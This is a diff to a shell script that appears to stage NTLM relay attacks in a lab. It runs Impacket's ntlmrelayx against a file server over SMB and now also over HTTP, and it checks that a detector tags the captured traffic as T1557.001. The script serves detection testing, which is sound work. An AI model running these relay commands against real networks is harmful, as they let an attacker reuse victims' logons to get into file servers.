@@ -214,8 +214,8 @@ record_rogue_controller() {
     finish
 }
 
-record_relay_smb() {
-    begin relay-smb attack "A user is lured to the attacker's host by SMB, which passes the logon on to a file server (Impacket's ntlmrelayx) and is let in there as that user."
+# relay_ward: a file server, a user's host, the attacker's, and what ntlmrelayx needs to start.
+relay_ward() {
     hospital clients servers
     host desk clients $USER_HOST
     host attacker clients $ATTACKER
@@ -232,10 +232,35 @@ record_relay_smb() {
             mkdir -p "$(dirname "$WORK/stub/dsinternals/${module//.//}")"
             for name in ${names//,/}; do echo "$name = None"; done >>"$WORK/stub/dsinternals/${module//.//}.py"
         done
-    service attacker bash -c "cd $WORK && sleep 120 | HOME=$WORK PYTHONPATH=$WORK/stub $PYTHON $IMPACKET -t smb://$FILES -smb2support --no-http-server --no-wcf-server --no-raw-server -c hostname"
+}
+
+# relaying OPTION...: ntlmrelayx passes logons on to the file server.
+relaying() {
+    service attacker bash -c "cd $WORK && sleep 120 | HOME=$WORK PYTHONPATH=$WORK/stub $PYTHON $IMPACKET -t smb://$FILES -smb2support --no-wcf-server --no-raw-server $* -c hostname"
+}
+
+record_relay_smb() {
+    begin relay-smb attack "A user is lured to the attacker's host by SMB, which passes the logon on to a file server (Impacket's ntlmrelayx) and is let in there as that user."
+    relay_ward
+    relaying --no-http-server
     answering attacker $ATTACKER 445
     capture clients
     shell desk "smbclient -U WARD/wardrelay%ward-Secret-7 //$ATTACKER/share -c ls"
+    sleep 3
+    userdel wardrelay 2>/dev/null || true
+    expect "{technique: T1557.001, actor: $ATTACKER, kind: relayed logon, target: $FILES}"
+    contains "ntlmssp.messagetype == 3" -ge 2
+    finish
+}
+
+record_relay_http() {
+    begin relay-http attack "A user's program is lured to a web page of the attacker's host, which passes the logon on to a file server (Impacket's ntlmrelayx) and is let in there as that user."
+    programs curl
+    relay_ward
+    relaying --no-smb-server
+    answering attacker $ATTACKER 80
+    capture clients
+    shell desk "curl -s -m 5 --ntlm -u 'WARD/wardrelay:ward-Secret-7' http://$ATTACKER/"
     sleep 3
     userdel wardrelay 2>/dev/null || true
     expect "{technique: T1557.001, actor: $ATTACKER, kind: relayed logon, target: $FILES}"
